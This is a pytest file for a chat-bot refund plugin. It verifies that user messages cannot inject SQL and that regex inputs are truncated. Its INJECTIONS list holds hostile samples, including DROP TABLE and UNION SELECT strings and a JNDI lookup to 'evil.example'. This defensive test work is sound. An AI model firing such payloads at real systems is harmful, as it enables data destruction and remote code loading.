"""写给数据库、正则、格式化字符串看的话：都只是话。"""

import ast
from collections.abc import Iterator
from pathlib import Path

import pytest

import nonebot_plugin_refund
from nonebot_plugin_refund.domain.understanding.writing.text import MAX_LENGTH, normalise
from tests.chat.conversation_harness import OTHER, Bench

PACKAGE = Path(nonebot_plugin_refund.__path__[0])
SHOP = ("退货", "1", "1", "昨天", "1", "1")
INJECTIONS = (
    "'; DROP TABLE refund_cases; --",
    "' OR '1'='1",
    '" OR 1=1 --',
    "K7Q2' UNION SELECT answers FROM refund_cases --",
    "%",
    "____",
    "\x00",
    "{0.__class__}{command}%s%(x)s",
    "${jndi:ldap://evil.example/a}",
)
WORDS = ("进度", "更新", "材料", "文书", "提醒", "结案", "日历", "我的", "场景", "设置")


async def test_nothing_written_into_a_command_reaches_the_database_as_a_statement(bench: Bench) -> None:
    await bench.private(*SHOP)
    code = await bench.only_code()
    before = await bench.rows("SELECT * FROM refund_cases")
    for word in WORDS:
        for injected in INJECTIONS:
            for said in await bench.private(f"退款 {word} {injected}", user=OTHER):
                assert code not in said
                assert "没办成" not in said
    assert await bench.rows("SELECT * FROM refund_cases") == before


def calls_of_sql(tree: ast.AST) -> Iterator[ast.Call]:
    for node in ast.walk(tree):
        if isinstance(node, ast.Call):
            name = node.func.attr if isinstance(node.func, ast.Attribute) else getattr(node.func, "id", "")
            if name in ("text", "exec_driver_sql", "literal_column", "execute", "executescript"):
                yield node


def test_no_statement_is_put_together_from_what_people_write() -> None:
    """语句都由 SQLAlchemy 拼，值一律绑定；手写的语句里格式化的只有我们自己的设置和版本表的名字。"""
    found = [
        f"{path.relative_to(PACKAGE)} {ast.unparse(call)}"
        for floor in ("storage", "delivery", "dialogue", "cli")
        for path in sorted((PACKAGE / floor).rglob("*.py"))
        if "migrations" not in path.parts
        for call in calls_of_sql(ast.parse(path.read_text(encoding="utf-8")))
        for argument in call.args
        if isinstance(argument, ast.JoinedStr) and not ast.unparse(argument)[2:].startswith(OWN_STATEMENTS)
    ]
    assert found == []


OWN_STATEMENTS = ("PRAGMA ", "SELECT version_num FROM ")


@pytest.mark.parametrize("piece", ["1", "一", "年", " ", "[CQ:", "\ufdfa", "退"])
def test_what_the_patterns_read_is_cut_first(piece: str) -> None:
    """有几个正则对特别的话要按平方级的时间找，所以先裁短；裁短之后跑一万字的在 ``test_robustness.py``。"""
    assert len(normalise(piece * 100_000)) <= 2 * MAX_LENGTH
    assert "尾" not in normalise(piece * MAX_LENGTH + "尾")
